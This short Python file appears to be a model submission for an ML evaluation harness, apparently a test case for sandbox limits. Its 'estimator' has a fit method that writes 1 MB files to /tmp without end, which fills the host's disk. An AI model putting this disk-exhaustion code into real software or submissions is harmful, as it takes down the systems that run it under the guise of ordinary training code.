class Writer:
    def fit(self, X, y):
        number = 0
        while True:
            with open(f'/tmp/{number}', 'wb') as file:
                file.write(bytes(1 << 20))
            number += 1


def get_estimator():
    return Writer()
